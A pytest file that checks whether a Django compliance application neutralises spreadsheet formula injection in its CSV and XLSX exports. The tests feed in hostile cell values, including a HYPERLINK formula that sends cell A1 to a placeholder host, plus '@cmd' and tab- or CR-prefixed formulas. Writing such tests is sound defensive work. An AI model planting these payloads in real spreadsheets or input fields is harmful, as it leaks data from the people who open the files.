# ruff: noqa: F811 (the shared fixtures are imported by name)
"""Formula injection: every spreadsheet Garant writes (decision register, gap report, the
register's CSV and XLSX exports) goes through the shared writers of garant.core.documents,
which write a cell that a spreadsheet would run (= + - @ tab CR) as text with a leading
single quote. Each test writes a malicious name and reads the file back."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from garant.core.audit import audit_context
from garant.core.documents import csv_bytes, neutralize_formula, xlsx_workbook
from garant.core.models import Role
from tests.test_compliance_dashboard import qualified, qualified_world  # noqa: F401
from tests.test_governance_fixtures import gov, make_decision, make_project  # noqa: F401

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _text_cells(sheet):
    return [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def test_shared_writers_neutralise_every_formula_start():
    assert [neutralize_formula(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralize_formula("Triage") == "Triage"
    assert neutralize_formula("'=déjà") == "'=déjà"  # not quoted twice
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_workbook([("Feuille", ["=en-tête"], [[p] for p in PAYLOADS])]))
    )
    sheet = book.active
    expected = ["'=en-tête", *("'" + p.replace("\r", "\n") for p in PAYLOADS)]  # XML: CR is LF
    assert [c.value for c in sheet["A"]] == expected
    assert all(c.data_type == "s" for c in sheet["A"])  # text, never a formula
    text = csv_bytes(["Nom"], [[p] for p in PAYLOADS]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_control_characters_are_removed_before_the_formula_check():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_workbook([("F", ["A"], [["\x01=1+1"]])]))).active
    assert sheet["A2"].value == "'=1+1"


def test_decision_register_xlsx_neutralises_a_malicious_project_name(gov, client_for):
    evil = '=HYPERLINK("http://exemple.invalid";"x")'
    project = make_project(gov["a"]["est"], system={"name": evil})
    make_decision(gov["meeting"], project, rationale="-1+1 motivation", conditions="@cmd")
    response = client_for(gov["users"]["a"][Role.AUDITOR]).get(
        reverse("governance:decision_export", args=["xlsx"])
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    record = dict(zip(header, rows[1], strict=True))
    assert record["Projet"] == "'" + evil
    assert record["Motivation"] == "'-1+1 motivation"
    assert record["Conditions"] == "'@cmd"
    assert not any(c.data_type == "f" for c in _text_cells(sheet))


def test_gap_report_xlsx_neutralises_a_malicious_system_name(qualified_world, client_for):
    system = qualified_world["a"]["system"]
    with audit_context(source="test"):
        system.name = "=1+2"
        system.save()
    response = client_for(qualified_world["users"]["a"][Role.AUDITOR]).get(
        reverse("compliance:gap_report", args=["xlsx"])
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    names = {row[1] for row in book["Écarts"].iter_rows(min_row=2, values_only=True)}
    assert "'=1+2" in names and "=1+2" not in names
    for sheet in book.worksheets:
        assert not any(c.data_type == "f" for c in _text_cells(sheet))
